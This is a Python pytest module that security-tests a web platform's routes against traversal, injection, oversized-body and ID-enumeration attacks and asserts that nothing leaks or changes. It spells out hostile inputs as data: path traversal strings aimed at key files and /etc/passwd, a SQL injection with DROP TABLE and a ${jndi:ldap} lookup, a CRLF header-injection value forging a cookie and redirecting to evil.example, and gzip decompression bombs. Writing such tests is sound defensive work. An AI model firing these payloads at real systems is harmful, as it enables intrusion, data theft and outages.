"""What somebody may try: paths that lead elsewhere, texts that mean something to a database or to a header,
bodies that grow, names that are guessed. Nothing is shown, nothing is changed, nothing breaks.
"""

from __future__ import annotations

import gzip
import json
import re
import time
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy
from fastapi.routing import APIRoute

from builders.access_house import House
from builders.access_ways import WAYS
from builders.asking import FORM, Asker
from filiere_platform.domain.routes import ROUTES

PLACE = re.compile(r"\{[a-z_]+(:path)?\}")
WITH_PLACES = [(method, path) for method, path in ROUTES if PLACE.search(path)]
TRAVERSALS = (
    "../../../keys/log.pem", "%2e%2e/%2e%2e/keys/log.pem", "....//....//keys/log.pem", "..\\..\\keys\\log.pem",
    "/etc/passwd", "x%00.pem", "%252e%252e%252fkeys%252flog.pem", ".", "..;/keys/log.pem", "000/../../../keys/log.pem",
    "x" * 5_000,
)  # fmt: skip
# Each once: what means something to a statement, a pattern, a template, a header, a path.
INJECTIONS = (
    "' OR '1'='1' UNION SELECT body FROM record; DROP TABLE record; --%\\' #${jndi:ldap://x}{{7*7}}",
    "https://evil.example\r\nSet-Cookie: filiere_session=forged\r\nLocation: https://evil.example\r\n\r\n\x00",
)
QUERIES = (
    "object", "direction", "max_depth", "max_nodes", "as_of", "perPage", "nextPageToken", "MATCH_anyEPC", "EQ_bizStep",
    "EQ_eventID", "GE_eventTime", "eventType", "state", "rule", "after", "limit", "side", "version", "q", "lang",
    "next", "t",
)  # fmt: skip
TABLES = ("record", "event", "edge", "node", "visibility_grant", "digest", "member", "api_token", "person")
CANNOT_BE_CANCELLED = ("DELETE", "/epcis/nextPageToken/{token}")  # 501, as EPCIS 2.0 has it for tokens that expire
MOST_SECONDS = 5.0  # of this process, for what is refused unread
READING = [(method, path) for method, path in ROUTES if method == "GET"]
TAKING = [(method, path) for method, path in ROUTES if method in {"POST", "PUT"}]


@pytest.fixture(scope="module")
def engine(house: House) -> Iterator[sqlalchemy.Engine]:
    made = sqlalchemy.create_engine(house.instance.platform.settings.effective_database_url)
    yield made
    made.dispose()


def rows(engine: sqlalchemy.Engine) -> dict[str, int]:
    with engine.connect() as connection:
        return {
            table: connection.execute(sqlalchemy.text(f"SELECT count(*) FROM {table}")).scalar_one() for table in TABLES
        }


@pytest.fixture(autouse=True)
def _nothing_changes(engine: sqlalchemy.Engine) -> Iterator[None]:
    before = rows(engine)
    yield
    assert rows(engine) == before


def prober_of(house: House, path: str) -> Asker:
    """Who gets furthest at a route: somebody with a token, at the pages an administrator."""
    return house.actors["token" if is_of_the_api(path) else "administrator"]


def is_of_the_api(path: str) -> bool:
    return path.startswith(("/api/", "/epcis/", "/log/"))


def names_of(house: House, path: str) -> list[str]:
    """The parameters that a route takes; those that are not declared are read one by one by whoever answers."""
    declared = [
        parameter.alias
        for route in house.actors["token"].client.app.routes  # type: ignore[attr-defined]
        if isinstance(route, APIRoute) and route.path == path and "GET" in route.methods and path.startswith("/api/")
        for parameter in route.dependant.query_params
    ]
    return declared or ([] if path.startswith(("/api/", "/log/", "/static/")) else list(QUERIES))


def secrets_of(house: House) -> list[str]:
    """Words that none of the probers is shown: private records of others, key files, the machine's own files."""
    foreign = [house.objects[name] for name in ("foreign", "elsewhere", "secret")]
    return [*(each["jws"] for each in foreign), *(each["event_id"] for each in foreign), "PRIVATE KEY", "root:x:"]


def is_harmless(answer: httpx.Response, house: House, said: str) -> None:
    assert answer.status_code < 500, answer.text
    assert "filiere_session=forged" not in answer.headers.get("set-cookie", "")
    assert not answer.headers.get("location", "/").startswith(("https://evil", "//", "http://evil"))
    shown = answer.text.replace(said, "")
    assert [word for word in secrets_of(house) if word in shown] == []


@pytest.mark.parametrize(("method", "path"), WITH_PLACES)
def test_no_path_leads_out_of_its_folder(method: str, path: str, house: House) -> None:
    way, prober = WAYS.get(f"{method} {path}"), prober_of(house, path)
    for text in TRAVERSALS:
        for value in (text, quote(text, safe="")):
            answer = prober.ask(method, PLACE.sub(lambda _, given=value: given, path), json=way.json if way else None)
            if (method, path) == CANNOT_BE_CANCELLED and answer.status_code == 501:
                assert answer.json()["status"] == 501, answer.text  # said by the route, and nothing but that
                continue
            is_harmless(answer, house, text)


@pytest.mark.parametrize(("method", "path"), READING)
def test_no_parameter_is_part_of_a_statement_or_of_a_header(method: str, path: str, house: House) -> None:
    address, prober = PLACE.sub("1", path), prober_of(house, path)
    for text in INJECTIONS:
        for name in names_of(house, path):
            required = {"object": "urn:x"} if "trace" in path and name != "object" else {}
            is_harmless(prober.ask(method, address, query={**required, name: text}), house, text)


def deep(length: int) -> bytes:
    return b'{"a":' * length + b"1" + b"}" * length


BODIES = {
    "deep": deep(100_000),
    "a deep list": b"[" * 200_000 + b"]" * 200_000,
    "wide": json.dumps({str(number): number for number in range(100_000)}).encode(),
    "a long number": b"[" + b"9" * 500_000 + b"]",
    "a long text": json.dumps({"login": "a" * 2_000_000}).encode(),
    "a bomb": gzip.compress(bytes(200_000_000)),
    "a bomb of texts": gzip.compress(b'{"records":["' + b"A" * 50_000_000 + b'"]}'),
}
OF_API, OF_PAGES = ("application/json", "application/jose"), ("application/json", FORM)


@pytest.mark.parametrize(("method", "path"), TAKING)
def test_no_body_takes_long_or_much(method: str, path: str, house: House) -> None:
    address, prober = PLACE.sub("1", path), prober_of(house, path)
    for name, body in BODIES.items():
        for kind in OF_API if is_of_the_api(path) else OF_PAGES:
            headers = {"Content-Encoding": "gzip"} if name.startswith("a bomb") else {}
            began = time.process_time()
            answer = prober.ask(method, address, content=body, kind=kind, headers=headers)
            assert time.process_time() - began < MOST_SECONDS, (name, kind)
            assert answer.status_code < 500, (name, kind, answer.text)


def test_what_is_hidden_is_answered_as_what_is_not_there_wherever_ids_are_guessed(house: House) -> None:
    """Enumeration: somebody else's and nobody's id get one answer, but for the id itself."""
    asked = {
        "index": (
            "GET /api/v1/records/{index}",
            "GET /api/v1/records/{index}/proof",
            "GET /api/v1/cose-receipt/{index}",
        ),
        "job_id": ("GET /epcis/capture/{job_id}",),
        "request_id": ("POST /api/v1/access-requests/{request_id}/grant",),
        "prefix": ("DELETE /api/v1/tokens/{prefix}",),
        "kid": ("GET /api/v1/keys/{kid}/chain",),
        "partner_id": ("GET /api/v1/suppliers/{partner_id}", "GET /api/v1/suppliers/{partner_id}/history"),
    }
    for place, ways in asked.items():
        for route in ways:
            method, _, path = route.partition(" ")
            answers = [
                house.actors["token"].ask(method, path.replace(f"{{{place}}}", house.objects[name][place]))
                for name in ("foreign", "absent")
            ]
            told = [
                a.text.replace(house.objects[n][place], "") for a, n in zip(answers, ("foreign", "absent"), strict=True)
            ]
            assert [a.status_code for a in answers] == [404, 404], route
            assert told[0] == told[1], route


def test_what_names_something_secret_cannot_be_counted_up(house: House) -> None:
    for name, least in (("job_id", 16), ("request_id", 16), ("prefix", 12), ("partner_id", 12)):
        own, foreign = house.objects["own"][name], house.objects["foreign"][name]
        assert len(own) >= least
        assert not own.isdecimal()
        assert own[: least // 2] != foreign[: least // 2]


def test_a_body_says_what_it_is_and_is_not_unpacked(house: House) -> None:
    sender = house.members["rival"]
    packed = gzip.compress(json.dumps({"records": []}).encode())
    headers = {**sender.headers, "Content-Type": "application/json", "Content-Encoding": "gzip"}
    assert sender.client.post("/api/v1/records", content=packed, headers=headers).status_code == 400
